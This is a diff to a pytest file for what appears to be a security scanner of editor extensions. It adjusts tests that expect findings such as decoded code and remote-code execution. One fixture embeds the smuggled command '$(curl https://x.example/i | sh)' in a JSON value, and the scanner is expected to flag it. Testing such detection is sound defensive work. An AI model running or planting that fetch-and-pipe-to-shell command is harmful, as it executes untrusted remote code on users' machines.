@@ -2,10 +2,10 @@
 
 import json
 from collections.abc import Mapping
-from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from msgspec.structs import replace
 
 from tests.archives import Member, zipped
 from tests.builders import extension
@@ -55,7 +55,9 @@ def worst(files: Mapping[str, bytes | str], **manifest: object) -> dict[str, Sev
     ],
 )
 def test_code_is_searched_whatever_its_file_is_called(files: dict[str, bytes | str]) -> None:
-    assert worst(files) == {"decoded-code": Severity.HIGH}
+    found = worst(files)
+    assert found.pop("decoded-code") == Severity.HIGH
+    assert set(found) == ({"active-picture"} if "icon.svg" in files else set())
 
 
 @pytest.mark.parametrize(
@@ -90,7 +92,9 @@ def test_a_file_that_is_given_to_a_shell_is_read_as_its_script(program: str, nam
         content = b"\x89PNG\r\n\x1a\n\0\n" + PIPE.encode()
     if name.endswith(".json"):
         content = json.dumps({"x": "$(curl https://x.example/i | sh)"})
-    assert worst({"extension.js": program, name: content}) == {"runs-remote-code": Severity.HIGH}
+    found = worst({"extension.js": program, name: content})
+    assert found.pop("runs-remote-code") == Severity.HIGH
+    assert not set(found) - {"package-data-code"}  # the flow in the program, where it is known
     assert worst({"extension.js": "0\n", name: content}) == {}  # and not without the program
 
 
